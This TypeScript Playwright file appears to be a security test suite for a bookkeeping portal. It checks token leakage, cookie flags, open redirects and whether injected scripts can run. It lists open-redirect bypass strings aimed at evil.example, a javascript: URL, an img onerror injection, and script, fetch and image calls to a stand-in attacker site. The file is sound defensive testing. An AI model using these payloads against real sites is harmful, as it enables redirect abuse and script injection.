import type { Browser, BrowserContext, Page } from '@playwright/test'
import { hashPassword } from '../../../worker/src/auth/passwords/password-hash.ts'
import { newBookkeeper } from '../../../worker/src/testing/portal.ts'
import { change } from '../../../worker/src/testing/work.ts'
import type { Attack } from '../attack.ts'
import { Tally } from '../tally.ts'
import type { Target } from '../target.ts'
import { type OtherSite, startOtherSite } from './other-site.ts'

/** Whether a page comes to show something. */
const isShown = (page: Page): Promise<boolean> =>
  page
    .getByRole('heading')
    .first()
    .waitFor({ timeout: 20_000 })
    .then(() => true)
    .catch(() => false)

/** Whether tokens in addresses leave with a request or a referrer. */
async function tokensThatLeave(tally: Tally, page: Page, url: string, evil: OtherSite): Promise<void> {
  const leaks: string[] = []
  page.on('request', (request) => {
    const referer = request.headers()['referer'] ?? ''
    if (referer !== '') leaks.push(`${request.url()} from ${referer}`)
    const other = new URL(request.url())
    if (other.protocol.startsWith('http') && other.origin !== url && !request.url().startsWith(evil.url))
      leaks.push(`another site: ${request.url()}`)
  })
  for (const path of [
    '/client-setup?token=a-secret',
    '/?reset=a-secret',
    '/?confirm=a-secret',
    '/mail-off?token=a-secret',
  ]) {
    await page.goto(url + path, { waitUntil: 'networkidle' })
    await page.evaluate((to) => location.assign(to), `${evil.url}from-a-link`)
    await page.waitForURL(`${evil.url}**`)
  }
  tally.held(leaks.length === 0, () => `tokens leave: ${leaks.join(', ')}`)
  tally.held(
    evil.got.length >= 4 && !evil.got.some((g) => g.includes('secret')),
    () => `tokens leave by the referrer: ${evil.got.join(', ')}`,
  )
}

async function cookiesKept(tally: Tally, context: BrowserContext): Promise<void> {
  const cookies = await context.cookies()
  tally.held(
    cookies.some(({ name }) => name.endsWith('portal_refresh')),
    () => 'nobody is signed in by a cookie',
  )
  for (const cookie of cookies) {
    const open = !cookie.httpOnly && cookie.name !== 'sidebar_state'
    tally.held(
      !open && cookie.secure && cookie.sameSite !== 'None',
      () => `cookie ${cookie.name}: ${JSON.stringify(cookie)}`,
    )
    if (cookie.name.endsWith('portal_refresh'))
      tally.held(cookie.sameSite === 'Strict' && cookie.path === '/api/auth', () => JSON.stringify(cookie))
  }
}

/** Addresses that a link may hold: none leads out of the portal, or to nothing. */
async function addressesThatLead(tally: Tally, page: Page, url: string): Promise<void> {
  for (const next of [
    '//evil.example',
    '/\\evil.example',
    '/\t/evil.example',
    '/\n/evil.example',
    'https://evil.example',
    'javascript:window.ran=1',
    '/.//evil.example',
    '/%2f/evil.example',
    '/%5cevil.example',
  ]) {
    await page.goto(`${url}/?next=${encodeURIComponent(next)}`)
    tally.held(await isShown(page), () => `next=${JSON.stringify(next)} shows nothing`)
    tally.held(new URL(page.url()).origin === url, () => `next=${JSON.stringify(next)} leads to ${page.url()}`)
  }
  for (const path of [
    '//evil.example/clients',
    '/\\evil.example/',
    '/clients//evil.example/x',
    '/.//evil.example/clients',
  ]) {
    await page.goto(url + path)
    tally.held(await isShown(page), () => `${path} shows nothing`)
    tally.held(new URL(page.url()).origin === url, () => `${path} leads to ${page.url()}`)
  }
}

/** What somebody who got markup into a page would plant there: each thing by itself, since the first that is stopped would stop the rest. */
async function plantedScripts(tally: Tally, page: Page, evil: OtherSite): Promise<void> {
  const ran = await page.evaluate(async (to) => {
    const script = (own: Partial<HTMLScriptElement>) =>
      document.body.append(Object.assign(document.createElement('script'), own))
    const plants = [
      () => script({ textContent: 'window.canary = 1' }),
      () => document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.canary = 2">'),
      // What a debugger evaluates may evaluate; what it plants may not run.
      () => script({ src: 'data:text/javascript,window.canary=3' }),
      () => script({ src: `${to}far.js` }),
      () => fetch(`${to}fetch`),
      () => new Promise((done) => Object.assign(new Image(), { onload: done, onerror: done, src: `${to}image` })),
    ]
    for (const plant of plants) await (async () => plant())().catch(() => undefined)
    await new Promise((done) => setTimeout(done, 50))
    return (window as unknown as { canary?: number }).canary
  }, evil.url)
  tally.held(ran === undefined, () => `a planted script ran: ${ran}`)
  tally.held(
    !evil.got.some((g) => /^\/(far|fetch|image)/.test(g)),
    () => `something was sent to another site: ${evil.got.join(', ')}`,
  )
}

const PASSWORD = 'correct-horse-9!'

/** What a real browser makes of it: where tokens go, how cookies are kept, where addresses lead, what may run. */
export async function inBrowser(browser: Browser, { url }: Target): Promise<Attack> {
  const tally = new Tally('tokens, cookies and scripts in a browser', 'looks')
  const bookkeeper = await newBookkeeper()
  await change('UPDATE auth_users SET password_hash = ? WHERE id = ?', await hashPassword(PASSWORD), bookkeeper.userId)
  const evil = await startOtherSite([])
  const context = await browser.newContext()
  try {
    const page = await context.newPage()
    await tokensThatLeave(tally, page, url, evil)
    await page.goto(url)
    await page.getByLabel('Email').fill(bookkeeper.email)
    await page.getByLabel('Password', { exact: true }).fill(PASSWORD)
    await page.locator('form').getByRole('button', { name: 'Sign In' }).click()
    await page.waitForURL('**/dashboard')
    await cookiesKept(tally, context)
    await addressesThatLead(tally, page, url)
    await plantedScripts(tally, page, evil)
  } finally {
    await context.close()
    evil.stop()
  }
  return tally.attack()
}
